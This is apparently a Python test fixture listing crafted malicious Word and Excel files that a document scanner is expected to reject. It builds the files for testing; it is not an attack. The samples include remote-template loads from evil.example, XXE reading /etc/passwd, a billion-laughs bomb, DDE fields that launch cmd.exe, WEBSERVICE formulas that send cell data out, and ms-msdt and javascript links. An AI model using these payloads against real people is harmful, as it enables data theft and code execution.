"""Word and Excel files that do harm, each with what it is refused for. Over 400 lines, as it is
one list."""

from tests.factories.evidence import EXCEL, MAIN, TYPE, office, relations

OUTSIDE = "External"
WORD_TYPE, EXCEL_TYPE = TYPE + "wordprocessingml.", TYPE + "spreadsheetml."
CHART = TYPE + "drawingml.chart+xml"
MICROSOFT = "http://schemas.microsoft.com/office/"
VML = TYPE + "vmlDrawing"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><a>&d;</a>'
)
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


def field(code: str) -> str:
    """As Word writes it: in pieces."""
    pieces = [code[at : at + 4] for at in range(0, len(code), 4)]
    text = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{text}<w:fldChar w:fldCharType="end"/>'


def word(body: str) -> bytes:
    return office("docx", body=body)


def linked(kind: str, target: str, *mode: str, program: str = "docx") -> bytes:
    return office(program, points_to=[(kind, target, *mode)])  # type: ignore[list-item]


def sheet(rows: str) -> bytes:
    return office(
        "xlsx",
        {"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{EXCEL}">{rows}</worksheet>'},
        of_type={"xl/worksheets/sheet1.xml": EXCEL_TYPE + "worksheet+xml"},
        points_to=[("worksheet", "worksheets/sheet1.xml")],
    )


def formula(text: str) -> bytes:
    return sheet(f"<sheetData><row><c><f>{text}</f></c></row></sheetData>")


def part(name: str, content: str | bytes, of: str) -> bytes:
    return office("docx", {name: content}, of_type={name: of})


def behind_chart(content: bytes, source: str = "word/charts/chart1.xml") -> bytes:
    folder, _slash, name = source.rpartition("/")
    return office(
        "docx",
        {
            "word/charts/chart1.xml": "<c>" + "<a/>" * 3_000 + "</c>",
            f"{folder}/_rels/{name}.rels": relations(("package", "../embeddings/a.xlsx")),
            "word/embeddings/a.xlsx": content,
        },
        of_type={"word/charts/chart1.xml": CHART},
        endings={"xlsx": EXCEL_TYPE + "sheet"},
        points_to=[("chart", "charts/chart1.xml")] if source != "word/document.xml" else [],
    )


HOSTILE: dict[str, tuple[str, str, bytes]] = {
    "a template elsewhere": (
        "docx",
        "office_outside",
        linked("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE),
    ),
    "a template on a share": (
        "docx",
        "office_outside",
        linked("attachedTemplate", r"file:///\\evil\a.dotm", OUTSIDE),
    ),
    "a template on a share, as an address": (
        "docx",
        "office_outside",
        linked("attachedTemplate", "file://evil/a.dotm", OUTSIDE),
    ),
    "a template that leads out": (
        "docx",
        "office_outside",
        linked("attachedTemplate", r"C:\a\..\..\b.dotm", OUTSIDE),
    ),
    "a picture elsewhere": (
        "docx",
        "office_outside",
        linked("image", "https://evil.example/a.png", OUTSIDE),
    ),
    "a picture elsewhere that is said to be inside": (
        "docx",
        "office_outside",
        linked("image", "https://evil.example/a.png"),
    ),
    "a picture on a share": ("docx", "office_outside", linked("image", r"\\evil\a.png")),
    "a drawing that loads": (
        "docx",
        "office_outside",
        part("word/vml.vml", '<v xmlns="v" src="http://evil.example/a.png"/>', VML),
    ),
    "a drawing that leads out": (
        "docx",
        "office_link",
        part("word/vml.vml", '<v xmlns="v" href="file://evil/a"/>', VML),
    ),
    "an object": ("docx", "office_object", linked("oleObject", "embeddings/oleObject1.bin")),
    "an object elsewhere": (
        "docx",
        "office_object",
        linked("oleObject", "file:///C:/a.xlsx", OUTSIDE),
    ),
    "an object that nothing points to": (
        "docx",
        "office_object",
        part("word/embeddings/a.bin", b"\xd0\xcf\x11\xe0", TYPE + "oleObject"),
    ),
    "a control": ("docx", "office_object", linked("control", "activeX/activeX1.xml")),
    "an add-in": (
        "docx",
        "office_macro",
        linked(MICROSOFT + "2011/relationships/webextensiontaskpanes", "taskpanes.xml"),
    ),
    "buttons of its own": (
        "docx",
        "office_macro",
        linked(MICROSOFT + "2007/relationships/ui/extensibility", "customUI.xml"),
    ),
    "a document in the text": ("docx", "office_nested", linked("aFChunk", "a.html")),
    "a document within": ("docx", "office_nested", linked("subDocument", "a.docx", OUTSIDE)),
    "a workbook in the text": ("docx", "office_nested", behind_chart(b"", "word/document.xml")),
    "a document that nothing points to": (
        "docx",
        "office_nested",
        part("word/a.docx", "x", WORD_TYPE + "document"),
    ),
    "a page that nothing points to": ("docx", "office_nested", part("a.html", "x", "text/html")),
    "a workbook with a macro behind a chart": (
        "docx",
        "office_macro",
        behind_chart(linked("vbaProject", "a.bin", program="xlsx")),
    ),
    "a program behind a chart": ("docx", "office_nested", behind_chart(b"MZ\x90")),
    "a workbook in a workbook behind a chart": (
        "docx",
        "office_nested",
        behind_chart(office("xlsx", {"xl/a.xlsx": "x"}, endings={"xlsx": EXCEL_TYPE + "sheet"})),
    ),
    "a program": ("docx", "office_unknown", office("docx", {"word/a.exe": b"MZ\x90"})),
    "a program of a type of its own": (
        "docx",
        "office_unknown",
        part("word/a.exe", b"MZ\x90", "application/x-msdownload"),
    ),
    "a program for a picture": ("docx", "office_unknown", part("a.png", b"MZ\x90", "image/png")),
    "a program for a printer": (
        "docx",
        "office_unknown",
        part("a.bin", b"MZ\x90", WORD_TYPE + "printerSettings"),
    ),
    "a program for XML": (
        "docx",
        "office_unreadable",
        part("a.bin", b"MZ\x90", WORD_TYPE + "styles+xml"),
    ),
    "a macro": ("xlsx", "office_macro", linked("vbaProject", "macros.bin", program="xlsx")),
    "a macro that nothing points to": (
        "docx",
        "office_macro",
        part("word/m.bin", b"x", "application/vnd.ms-office.vbaProject"),
    ),
    "a type with macros": (
        "xlsx",
        "file_not_what_it_says",
        office("xlsx", main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ),
    "a document with macros": (
        "docx",
        "file_not_what_it_says",
        office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "a template": (
        "docx",
        "file_not_what_it_says",
        office("docx", main=WORD_TYPE + "template.main+xml"),
    ),
    "a workbook for a document": (
        "docx",
        "file_not_what_it_says",
        office("docx", main=MAIN["xlsx"][1]),
    ),
    "another main part": (
        "docx",
        "file_not_what_it_says",
        office(
            "docx",
            {"_rels/.rels": relations(("officeDocument", "other.xml")), "other.xml": "<x/>"},
            of_type={"other.xml": WORD_TYPE + "styles+xml"},
        ),
    ),
    "a sheet of macros": (
        "xlsx",
        "office_macro",
        linked(MICROSOFT + "2006/relationships/xlMacrosheet", "m.xml", program="xlsx"),
    ),
    "XXE": ("docx", "office_unreadable", part("word/styles.xml", XXE, WORD_TYPE + "styles+xml")),
    "XXE in what points": ("docx", "office_unreadable", office("docx", {"_rels/.rels": XXE})),
    "XXE in the types": ("docx", "office_unreadable", office("docx", {"[Content_Types].xml": XXE})),
    "laughs": ("docx", "office_unreadable", office("docx", {"customXml/item1.xml": LAUGHS})),
    "laughs in UTF-16": (
        "docx",
        "office_unreadable",
        office("docx", {"customXml/item1.xml": LAUGHS.encode("utf-16")}),
    ),
    "a connection": ("xlsx", "office_outside", linked("connections", "c.xml", program="xlsx")),
    "another workbook": (
        "xlsx",
        "office_outside",
        linked("externalLink", "externalLink1.xml", program="xlsx"),
    ),
    "numbers from a program": (
        "xlsx",
        "office_outside",
        linked("volatileDependencies", "v.xml", program="xlsx"),
    ),
    "a list of recipients": (
        "docx",
        "office_outside",
        linked("mailMergeSource", "file:///C:/a.mdb", OUTSIDE),
    ),
    "a frame": ("docx", "office_outside", linked("frame", "https://evil.example", OUTSIDE)),
    "a film": ("docx", "office_media", linked("video", "https://evil.example/a.mp4", OUTSIDE)),
    "a film from the web": (
        "docx",
        "office_media",
        word('<w:webVideoPr embeddedHtml="&lt;iframe src=&quot;https://evil.example&quot;>"/>'),
    ),
    "a program for a printer, in a field": ("docx", "office_field", word(field('PRINT "%!PS"'))),
    "a kind that nobody knows": ("docx", "office_unknown", linked("urn:evil", "a.xml")),
    "DDE": ("docx", "office_field", word(field(r"DDEAUTO c:\\windows\\cmd.exe /k calc"))),
    "DDE in one": ("docx", "office_field", word('<w:fldSimple w:instr=" dde  cmd /k"/>')),
    "DDE without a beginning": ("docx", "office_field", word("<w:instrText>DDE cmd</w:instrText>")),
    "DDE without an end": (
        "docx",
        "office_field",
        word('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>'),
    ),
    "DDE that was deleted": (
        "docx",
        "office_field",
        word("<w:delInstrText>DDE cmd</w:delInstrText>"),
    ),
    "DDE where data is": (
        "docx",
        "office_field",
        office("docx", {"a.xml": f"<w:x xmlns:w='w'>{field('DDE cmd')}</w:x>"}),
    ),
    "a formula where data is": (
        "xlsx",
        "office_field",
        office("xlsx", {"a.xml": f"<f xmlns='{EXCEL}'>WEBSERVICE(A1)</f>"}),
    ),
    "a code in the text of a field": (
        "docx",
        "office_field",
        word(
            '<w:fldChar w:fldCharType="begin"/><w:t>DDE cmd</w:t><w:fldChar w:fldCharType="end"/>'
        ),
    ),
    "a name that another field works out, in one": (
        "docx",
        "office_field_hidden",
        word('<w:fldChar w:fldCharType="begin"/><w:fldSimple w:instr="QUOTE 68 68 69"/>'),
    ),
    "a name far behind": ("docx", "office_field", word(field(" " * 9_000 + "DDE cmd"))),
    "a name that another field works out": (
        "docx",
        "office_field_hidden",
        word('<w:fldChar w:fldCharType="begin"/>' + field("QUOTE 68 68 69")),
    ),
    "a text from elsewhere": (
        "docx",
        "office_field",
        word(field(r'INCLUDETEXT "http://evil.example"')),
    ),
    "a picture from a share": (
        "docx",
        "office_field",
        word(field(r'INCLUDEPICTURE "\\\\evil\\a.png" \d')),
    ),
    "a picture that is loaded anew": (
        "docx",
        "office_field",
        word(
            '<w:fldSimple w:dirty="true" w:instr="INCLUDEPICTURE &quot;http://evil.example&quot;"/>'
        ),
    ),
    "a picture that is loaded anew before it is shown": (
        "docx",
        "office_field",
        word(
            field('INCLUDEPICTURE "http://evil.example"').replace(
                '"end"', '"separate" w:dirty="true"'
            )
        ),
    ),
    "all fields anew": ("docx", "office_fields_anew", word("<w:updateFields/>")),
    "all fields anew, said": ("docx", "office_fields_anew", word('<w:updateFields w:val="true"/>')),
    "all fields anew, and another word that says no": (
        "docx",
        "office_fields_anew",
        word('<w:updateFields xmlns:x="x" x:val="false" w:val="true"/>'),
    ),
    "DDE beside another word that says less": (
        "docx",
        "office_field",
        word('<w:fldSimple xmlns:x="x" x:instr="PAGE" w:instr="DDE cmd"/>'),
    ),
    "DDE that begins beside another word that ends it": (
        "docx",
        "office_field",
        word(
            '<w:fldChar xmlns:x="x" x:fldCharType="end" w:fldCharType="begin"/>'
            "<w:instrText>DDE cmd</w:instrText>"
        ),
    ),
    "a picture from a share that looks like the web": (
        "docx",
        "office_field",
        word(field(r'INCLUDEPICTURE "http:\\evil.example@80\a.png" \d')),
    ),
    "a link that a formula puts together": (
        "xlsx",
        "office_link",
        formula('HYPERLINK("fi"&amp;"le://evil/a.exe","x")'),
    ),
    "DDE in a formula": ("xlsx", "office_field", formula("cmd|'/c calc'!A1")),
    "DDE with a quoted name": ("xlsx", "office_field", formula("'cmd'|'/c calc'!A1")),
    "a web service": (
        "xlsx",
        "office_field",
        formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
    ),
    "a web service, hidden": ("xlsx", "office_field", formula("<![CDATA[WEB]]>SERVICE(A1)")),
    "a program for numbers": ("xlsx", "office_field", formula('RTD("evil.server",,"x")')),
    "a share in a formula": ("xlsx", "office_field", formula(r"'\\evil\[a.xlsx]A'!A1")),
    "a name that does it": (
        "xlsx",
        "office_field",
        office("xlsx", body='<w:definedName name="a">WEBSERVICE("x")</w:definedName>'),
    ),
    "a formula that leads to a share": (
        "xlsx",
        "office_link",
        formula(r'HYPERLINK("\\evil\a","x")'),
    ),
    **{
        f"a link to {target}": ("docx", "office_link", linked("hyperlink", target, OUTSIDE))
        for target in (
            "file:///C:/windows/system32/calc.exe",
            r"\\evil\share",
            "//evil/share",
            "smb://evil",
            "javascript:alert(1)",
            "java&#10;script:alert(1)",
            "%5C%5Cevil%5Ca",
            "ms-msdt:/id",
            "vbscript:x",
            "data:text/html,x",
            "search-ms:query=x",
            "/etc/passwd",
        )
    },
    "a link in a field": ("docx", "office_link", word(field(r'HYPERLINK "file://evil/a"'))),
    "a link in a field without quotes": (
        "docx",
        "office_link",
        word(field(r"HYPERLINK \\\\evil\\a")),
    ),
    "where links begin": (
        "docx",
        "office_link",
        part(
            "docProps/app.xml",
            '<Properties xmlns="p"><HyperlinkBase>file://evil/</HyperlinkBase></Properties>',
            TYPE + "extended-properties+xml",
        ),
    ),
    "a script in a picture": (
        "docx",
        "office_macro",
        part("a.svg", '<svg xmlns="s"><script/></svg>', "image/svg+xml"),
    ),
    "a picture in a picture": (
        "docx",
        "office_outside",
        part("a.svg", '<svg xmlns="s"><image href="http://evil.example"/></svg>', "image/svg+xml"),
    ),
    "a part twice": (
        "docx",
        "office_unreadable",
        office("docx", {"word/A.xml": "<x/>", "word/a.xml": "<x/>"}),
    ),
    "a part that is not whole": ("docx", "office_unreadable", office("docx", {"a.xml": "<x>"})),
    "two beginnings": (
        "docx",
        "office_unreadable",
        office("docx", {"_rels/.rels": relations(*[("officeDocument", "word/document.xml")] * 2)}),
    ),
}
